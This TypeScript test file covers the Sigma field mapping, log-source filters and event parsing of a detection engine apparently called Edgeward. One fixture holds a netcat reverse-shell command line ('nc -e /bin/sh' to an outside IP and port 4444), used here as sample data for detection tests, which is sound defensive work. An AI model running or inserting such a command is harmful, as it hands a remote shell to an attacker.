import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { admitsType, fieldAccessor, logsourceFilter, ruleEventFromJson } from './field-mapping.ts';
import type { EventSource, RuleEvent } from './rule.schema.ts';
import { event } from './rule-test.fixture.ts';

function value(field: string, type: string, data: Record<string, unknown>): unknown {
  return fieldAccessor(field)(event(type, data));
}

function admits(sources: readonly EventSource[] | null, type: string): boolean {
  return sources === null || sources.some((source) => admitsType(source, type));
}

describe('fieldAccessor', () => {
  it('reads Sigma names from Edgeward fields', () => {
    const login = { user: 'bob', sourceAddress: '10.0.0.9', sourcePort: 5022, program: 'sshd', pid: 42 };
    assert.equal(value('User', 'auth.login_failed', login), 'bob');
    assert.equal(value('TargetUserName', 'auth.login_failed', login), 'bob');
    assert.equal(value('SourceIp', 'auth.login_failed', login), '10.0.0.9');
    assert.equal(value('src_ip', 'auth.login_failed', login), '10.0.0.9');
    assert.equal(value('IpAddress', 'auth.login_failed', login), '10.0.0.9');
    assert.equal(value('SourcePort', 'auth.login_failed', login), 5022);
    assert.equal(value('ProcessName', 'auth.login_failed', login), 'sshd');
    assert.equal(value('ProcessId', 'auth.login_failed', login), 42);
    const sudo = { user: 'bob', targetUser: 'root', command: '/usr/bin/crontab -r', cwd: '/home/bob' };
    assert.equal(value('TargetUserName', 'auth.privilege_escalation', sudo), 'root');
    assert.equal(value('CommandLine', 'auth.privilege_escalation', sudo), '/usr/bin/crontab -r');
    assert.equal(value('Image', 'auth.privilege_escalation', sudo), '/usr/bin/crontab');
    assert.equal(value('CurrentDirectory', 'auth.privilege_escalation', sudo), '/home/bob');
  });

  it('takes Image and TargetFilename from the field that means it for the event type', () => {
    assert.equal(value('Image', 'host.executable_started', { path: '/tmp/x', pid: 7 }), '/tmp/x');
    assert.equal(value('TargetFilename', 'host.executable_started', { path: '/tmp/x' }), undefined);
    assert.equal(value('TargetFilename', 'fim.modified', { path: '/etc/shadow' }), '/etc/shadow');
    assert.equal(value('Image', 'fim.modified', { path: '/etc/shadow' }), undefined);
    const listener = { protocol: 'tcp', address: '0.0.0.0', port: 4444, process: 'nc' };
    assert.equal(value('Image', 'host.listener_added', listener), 'nc');
    assert.equal(value('DestinationPort', 'host.listener_added', listener), 4444);
    assert.equal(value('DestinationIp', 'host.listener_added', listener), '0.0.0.0');
    assert.equal(value('Protocol', 'host.listener_added', listener), 'tcp');
  });

  it('reads Edgeward names from events written with Sigma names, and each name as written first', () => {
    assert.equal(value('user', 'auth.login_failed', { User: 'alice' }), 'alice');
    assert.equal(value('sourceAddress', 'auth.login_failed', { SourceIp: '1.2.3.4' }), '1.2.3.4');
    assert.equal(value('path', 'fim.modified', { TargetFilename: '/etc/passwd' }), '/etc/passwd');
    assert.equal(value('command', 'host.executable_started', { CommandLine: 'id' }), 'id');
    assert.equal(value('User', 'auth.login_failed', { User: 'written', user: 'mapped' }), 'written');
    assert.equal(
      value('Image', 'host.executable_started', { Image: '/bin/sh', path: '/bin/bash' }),
      '/bin/sh',
    );
  });

  it('reads the event itself for type, severity, deviceId, seq, id and time', () => {
    const sample: RuleEvent = event(
      'auth.login_failed',
      { type: 'shadowed' },
      { deviceId: 'gw-7', time: 99, seq: 5 },
    );
    assert.equal(fieldAccessor('type')(sample), 'auth.login_failed');
    assert.equal(fieldAccessor('deviceId')(sample), 'gw-7');
    assert.equal(fieldAccessor('severity')(sample), 'medium');
    assert.equal(fieldAccessor('time')(sample), 99);
    assert.equal(fieldAccessor('seq')(sample), 5);
  });

  it('falls back to nested fields for dotted names and never reads inherited properties', () => {
    assert.equal(value('after.sha256', 'fim.modified', { after: { sha256: 'ab' } }), 'ab');
    assert.equal(value('after.mode', 'fim.modified', { after: { sha256: 'ab' } }), undefined);
    assert.equal(value('constructor', 'fim.modified', {}), undefined);
    assert.equal(value('toString', 'fim.modified', {}), undefined);
  });
});

describe('logsourceFilter', () => {
  it('maps Linux services and categories to Edgeward event types', () => {
    const auth = logsourceFilter({ product: 'linux', service: 'auth' }).sources;
    assert.ok(admits(auth, 'auth.login_failed') && admits(auth, 'syslog.message'));
    assert.ok(!admits(auth, 'fim.modified'));
    assert.deepEqual(logsourceFilter({ product: 'linux', service: 'sshd' }).sources, auth);
    assert.deepEqual(logsourceFilter({ product: 'linux', service: 'sudo' }).sources, auth);
    const syslog = logsourceFilter({ product: 'linux', service: 'syslog' }).sources;
    assert.ok(admits(syslog, 'syslog.message') && !admits(syslog, 'auth.login_failed'));
    const process = logsourceFilter({ product: 'linux', category: 'process_creation' }).sources;
    assert.ok(admits(process, 'host.executable_started'));
    assert.deepEqual(
      process?.find((source) => source.type === 'auth.privilege_escalation'),
      { type: 'auth.privilege_escalation', requires: 'command' },
    );
    const files = logsourceFilter({ product: 'linux', category: 'file_event' }).sources;
    assert.ok(admits(files, 'fim.created') && admits(files, 'fim.permissions_changed'));
    assert.ok(!admits(files, 'fim.baseline') && !admits(files, 'fim.limit_reached'));
    assert.deepEqual(logsourceFilter({ product: 'linux', category: 'file_change' }).sources, files);
    const network = logsourceFilter({ product: 'linux', category: 'network_connection' }).sources;
    assert.ok(admits(network, 'host.listener_added') && !admits(network, 'host.executable_started'));
  });

  it('maps product edgeward to an area, an exact type, or everything', () => {
    assert.deepEqual(logsourceFilter({ product: 'edgeward', service: 'policy' }).sources, [
      { type: 'policy.*' },
    ]);
    assert.deepEqual(logsourceFilter({ product: 'edgeward', service: 'alert' }).sources, [
      { type: 'alert.*' },
    ]);
    assert.deepEqual(
      logsourceFilter({ product: 'edgeward', service: 'auth', category: 'login_failed' }).sources,
      [{ type: 'auth.login_failed' }],
    );
    assert.equal(logsourceFilter({ product: 'edgeward' }).sources, null);
    const linux = logsourceFilter({ product: 'linux' }).sources;
    assert.ok(
      admits(linux, 'auth.login_failed') && admits(linux, 'fim.created') && admits(linux, 'syslog.message'),
    );
    assert.ok(!admits(linux, 'agent.loss_report') && !admits(linux, 'policy.stale'));
  });

  it('warns, and admits nothing, for log sources no Edgeward event comes from', () => {
    for (const logsource of [
      { product: 'windows', service: 'security' },
      { product: 'linux', service: 'auditd' },
      { product: 'linux', category: 'registry_event' },
      { product: 'linux', category: 'process_creation', service: 'syslog' },
      { product: 'edgeward', service: 'nothing' },
    ]) {
      const filter = logsourceFilter(logsource);
      assert.deepEqual(filter.sources, [], JSON.stringify(logsource));
      assert.match(filter.warning ?? '', /never matches/);
    }
  });
});

describe('ruleEventFromJson', () => {
  const defaults = { deviceId: 'test', seq: 7, time: 1000 };

  it('takes an Edgeward event as it is, filling what it lacks', () => {
    const result = ruleEventFromJson({ type: 'auth.login_failed', time: 5, data: { user: 'bob' } }, defaults);
    assert.deepEqual(result, {
      ok: true,
      event: {
        seq: 7,
        id: 'test:7',
        type: 'auth.login_failed',
        severity: 'medium',
        time: 5,
        data: { user: 'bob' },
        deviceId: 'test',
      },
    });
  });

  it('takes a flat record of Sigma fields, with an ISO time, and infers its type', () => {
    const result = ruleEventFromJson(
      { timestamp: '2024-01-01T00:00:00Z', Image: '/usr/bin/nc', CommandLine: 'nc -e /bin/sh 1.2.3.4 4444' },
      defaults,
    );
    assert.ok(result.ok);
    assert.equal(result.event.type, 'host.executable_started');
    assert.equal(result.event.time, Date.UTC(2024, 0, 1));
    assert.deepEqual(result.event.data, { Image: '/usr/bin/nc', CommandLine: 'nc -e /bin/sh 1.2.3.4 4444' });
    const file = ruleEventFromJson({ TargetFilename: '/etc/cron.d/x' }, defaults);
    assert.equal(file.ok && file.event.type, 'fim.modified');
  });

  it('refuses what is not an event', () => {
    assert.equal(ruleEventFromJson([1], defaults).ok, false);
    assert.match(
      String((ruleEventFromJson({ foo: 1 }, defaults) as { message: string }).message),
      /add "type"/,
    );
    assert.equal(ruleEventFromJson({ type: 'x.y', time: 'yesterday' }, defaults).ok, false);
  });
});
